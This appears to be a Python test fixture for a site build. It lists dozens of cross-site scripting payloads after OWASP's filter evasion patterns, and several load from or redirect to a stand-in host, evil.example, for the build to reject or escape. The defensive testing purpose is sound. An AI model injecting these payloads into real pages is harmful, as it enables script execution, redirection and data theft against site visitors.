"""Script injection payloads, written for this project after the patterns of
OWASP's XSS Filter Evasion Cheat Sheet: each one, if it ran, would show a
dialog (``alert``), change the document's title (``document.title``), load or
send something to another host (``evil.example``) or send the reader there.

``BODY`` goes into a page's text (Markdown, raw HTML included); every one must
be refused by the build. The same strings go into the header fields, where they
are text and must come out as text.
"""

from __future__ import annotations

EVIL = "evil.example"

BODY = [
    "<script>alert(1)</script>",
    f"<SCRIPT SRC=https://{EVIL}/xss.js></SCRIPT>",
    "<img src=x onerror=alert(1)>",
    '<div><img src="x"onerror=alert(1)></div>',
    "<IMG SRC=\"javascript:alert('XSS');\">",
    "<IMG SRC=JaVaScRiPt:alert('XSS')>",
    "<IMG SRC=&#106;&#97;&#118;&#97;&#115;&#99;&#114;&#105;&#112;&#116;&#58;&#97;&#108;"
    "&#101;&#114;&#116;&#40;&#39;&#88;&#83;&#83;&#39;&#41;>",
    "<IMG SRC=&#x6A&#x61&#x76&#x61&#x73&#x63&#x72&#x69&#x70&#x74&#x3A&#x61&#x6C&#x65"
    "&#x72&#x74&#x28&#x27&#x58&#x53&#x53&#x27&#x29>",
    "<IMG SRC=\"jav\tascript:alert('XSS');\">",
    "<IMG SRC=\" &#14;  javascript:alert('XSS');\">",
    "<svg onload=alert(1)>",
    "<svg><a><animate attributeName=href values=javascript:alert(1) />"
    "<text x=20 y=20>Klikk</text></a></svg>",
    "<body onload=alert(1)>",
    '<iframe src="javascript:alert(1)"></iframe>',
    '<iframe srcdoc="<script>alert(1)</script>"></iframe>',
    f'<object data="https://{EVIL}/x.swf"></object>',
    f'<embed src="https://{EVIL}/x.swf">',
    f'<meta http-equiv="refresh" content="0;url=https://{EVIL}/">',
    f'<base href="https://{EVIL}/">',
    f'<link rel=stylesheet href="https://{EVIL}/x.css">',
    f"<style>@import 'https://{EVIL}/x.css';</style>",
    '<div style="background:url(javascript:alert(1))">x</div>',
    "<DIV STYLE=\"width: expression(alert('XSS'));\">x</DIV>",
    '<a href="javascript:alert(1)">Trykk</a>',
    "[Trykk](javascript:alert(1))",
    "[Trykk](JaVaScRiPt:alert(1))",
    '<a href="data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==">x</a>',
    "![bilde](data:image/svg+xml;base64,PHN2ZyBvbmxvYWQ9YWxlcnQoMSk+)",
    f'<form action="https://{EVIL}/"><input name=q><button>Send</button></form>',
    '<button formaction="javascript:alert(1)">x</button>',
    "<input autofocus onfocus=alert(1)>",
    "<details open ontoggle=alert(1)>x</details>",
    "<video><source onerror=alert(1)></video>",
    "<audio src=x onerror=alert(1)>",
    "<math><mtext><table><mglyph><style><img src=x onerror=alert(1)>",
    '<noscript><p title="</noscript><img src=x onerror=alert(1)>">',
    "<title><img src=x onerror=alert(1)></title>",
    "<marquee onstart=alert(1)>x</marquee>",
    'Avsnitt\n{: onmouseover="alert(1)" }',
    f'<img src="https://{EVIL}/track.gif" alt="sporing">',
    f'<img src="//{EVIL}/track.gif" alt="sporing">',
    "<img src=x:alert(alt) onerror=eval(src) alt=0>",
    '<IMG """><SCRIPT>alert("XSS")</SCRIPT>">',
    '<<SCRIPT>alert("XSS");//<</SCRIPT>',
    '<a href="&#0000106&#0000097&#0000118&#0000097&#0000115&#0000099&#0000114&#0000105'
    "&#0000112&#0000116&#0000058&#0000097&#0000108&#0000101&#0000114&#0000116&#0000040"
    '&#0000049&#0000041">x</a>',
    "<TABLE BACKGROUND=\"javascript:alert('XSS')\"><tr><td>x</td></tr></TABLE>",
    '<a href="https://example.org/" onclick="alert(1)">x</a>',
    "<xss id=x tabindex=1 onfocus=alert(1)></xss>",
    '<img srcset="x.png 1x, javascript:alert(1) 2x" alt="x">',
    "<scr<script>ipt>alert(1)</script>",
    '<!--<img src="--><img src=x onerror=alert(1)//">',
    "<template><script>alert(1)</script></template>",
    f"<portal src=https://{EVIL}/></portal>",
    "<img src=x onerror=document.title=1337>",
    "<img src=x onerror=alert(1)//",
]

# Header fields are one line; what a staff member may type besides
HEADER = [p.replace("\n", " ") for p in BODY] + [
    'Prosjektet "Ung stemme"',
    "Når a<b i statistikken",
    "Forskning & fagutvikling – «sitat» ’n’ 🙂",
    '"><svg onload=alert(1)>',
    "</title><script>alert(1)</script>",
    "</script><script>alert(1)</script>",
    "&lt;script&gt;alert(1)&lt;/script&gt;",
    "{{ 7*7 }} {% raw %}",
]
